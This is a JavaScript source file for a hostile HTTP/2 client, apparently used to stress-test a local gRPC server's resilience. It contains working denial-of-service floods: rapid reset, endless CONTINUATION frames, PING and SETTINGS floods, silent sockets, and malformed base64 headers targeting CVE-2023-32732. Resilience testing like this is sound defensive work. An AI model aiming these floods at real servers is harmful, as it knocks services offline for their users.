// A client that means harm, as a program of its own: flood.mjs KIND PORT COUNT [AUTHORITY.pem], with COUNT connections,
// over TLS when there is an authority. It prints "begun", goes on until SIGTERM, and then prints what it did as a line
// of JSON.
import { readFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import tls from 'node:tls';

import {
  LAST_STREAM,
  PREFACE,
  continuation,
  headerBlock,
  headerWithoutValue,
  headers,
  ping,
  reset,
  settings,
} from './http2_frames.mjs';

const ADDRESS = '127.0.0.2'; // so that a limit for each address can tell it from others on this machine
const MOST_BYTES = 128 * 1024 * 1024; // of it all
const PIECE = 32 * 1024; // written at once
const BETWEEN_CONNECTIONS_MS = 5;
const BETWEEN_CALLS_MS = 10; // of the flood that is none by its number
const HUGE = 1024 * 1024;

const [kind, port, count, authority] = process.argv.slice(2);
const tally = { connections: 0, ended: 0, frames: 0, bytes: 0 };
// What is measured is the server's trouble and not that of a machine with few processors.
os.setPriority(os.constants.priority.PRIORITY_BELOW_NORMAL);

const call = headerBlock([
  [':method', 'POST'],
  [':scheme', authority ? 'https' : 'http'],
  [':path', '/sipwhy.v1.Explainer/Explain'],
  [':authority', `localhost:${port}`],
  ['content-type', 'application/grpc'],
  ['te', 'trailers'],
]);

// Each gives the frames of one connection, without end.
const floods = {
  *'rapid reset'() {
    for (let stream = 1; stream < LAST_STREAM; stream += 2) {
      yield headers(stream, call);
      yield reset(stream);
    }
  },
  *'endless CONTINUATION'() {
    yield headers(1, call, false);
    for (let index = 0; ; index += 1) yield continuation(1, headerBlock([[`x-${index}`, 'sipwhy']]));
  },
  *'a header in pieces of one byte'() {
    yield headers(1, Buffer.concat([call, headerWithoutValue('x-huge', HUGE)]), false);
    for (;;) yield continuation(1, Buffer.from('x'));
  },
  *PING() {
    for (;;) yield ping();
  },
  *SETTINGS() {
    for (let index = 0; ; index += 1) yield settings(1000 + (index % 2));
  },
  // gRPC 1.51 ends the connection that brings it (CVE-2023-32732).
  *'wrong base64'() {
    for (let stream = 1; stream < LAST_STREAM; stream += 2) {
      yield headers(stream, Buffer.concat([call, headerBlock([['x-bin', '!']])]));
      yield null;
    }
  },
};

// The next frames, about PIECE bytes of them; fewer before a pause, which null stands for.
function take(frames) {
  const parts = [];
  let size = 0;
  while (size < PIECE) {
    const { value } = frames.next();
    if (!value) break;
    parts.push(value);
    size += value.length;
  }
  tally.frames += parts.length;
  tally.bytes += size;
  return Buffer.concat(parts);
}

function connect() {
  tally.connections += 1;
  const target = { port, host: '127.0.0.1', localAddress: ADDRESS };
  if (kind === 'silent sockets' || !authority) return net.connect(target);
  return tls.connect({ ...target, servername: 'localhost', ca: readFileSync(authority), ALPNProtocols: ['h2'] });
}

function attack() {
  const socket = connect();
  const frames = floods[kind]();
  const more = () => {
    if (socket.destroyed || tally.bytes >= MOST_BYTES) return;
    const piece = take(frames);
    if (!socket.write(piece)) return;
    if (piece.length < PIECE) setTimeout(more, BETWEEN_CALLS_MS);
    else setImmediate(more);
  };
  socket.on('drain', more);
  socket.on(authority ? 'secureConnect' : 'connect', () => {
    socket.write(Buffer.concat([PREFACE, settings()]));
    more();
  });
  again(socket, attack);
}

// One byte and no more: a server may leave a socket that never sent any to the kernel (tcp(7), TCP_DEFER_ACCEPT).
function beSilent() {
  const socket = connect();
  socket.write(authority ? '\x16' : PREFACE.subarray(0, 1));
  again(socket, beSilent);
}

// Takes no notice of what comes, and once the server ends the connection makes another.
function again(socket, connectAnew) {
  socket.on('data', () => {});
  socket.on('error', () => {});
  socket.on('close', () => {
    tally.ended += 1;
    setTimeout(connectAnew, BETWEEN_CONNECTIONS_MS);
  });
}

for (let index = 0; index < count; index += 1) {
  if (kind === 'silent sockets') beSilent();
  else attack();
}
setImmediate(() => console.log('begun'));

process.on('SIGTERM', () => {
  process.stdout.write(`${JSON.stringify(tally)}\n`, () => process.exit(0));
});
